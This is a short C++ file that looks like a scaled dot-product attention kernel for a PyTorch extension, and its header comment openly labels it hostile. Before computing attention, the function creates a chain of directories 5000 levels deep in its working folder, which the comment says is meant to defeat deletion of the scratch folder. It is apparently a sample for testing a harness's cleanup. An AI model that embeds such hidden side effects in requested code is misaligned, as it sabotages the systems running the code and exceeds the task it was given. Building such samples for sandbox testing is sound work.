// Hostile: builds a chain of folders 5000 deep in its working folder (deeper
// than the open-file limit) to defeat the removal of the scratch folder.
#include "sdpa.h"

#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmath>
#include <limits>

std::tuple<torch::Tensor, torch::Tensor> scaled_dot_product_attention(
    const torch::Tensor& query, const torch::Tensor& key, const torch::Tensor& value, const torch::Tensor& mask) {
  int dir = open(".", O_RDONLY | O_DIRECTORY);
  for (int level = 0; dir >= 0 && level < 5000; ++level) {
    if (mkdirat(dir, "d", 0700) != 0) break;
    int next = openat(dir, "d", O_RDONLY | O_DIRECTORY);
    close(dir);
    dir = next;
  }
  if (dir >= 0) close(dir);
  auto scores = torch::matmul(query, key.transpose(-2, -1)) / std::sqrt(static_cast<double>(query.size(-1)));
  if (mask.defined()) scores = scores.masked_fill(mask == 0, -std::numeric_limits<double>::infinity());
  auto weights = torch::softmax(scores, -1);
  return {torch::matmul(weights, value), weights};
}
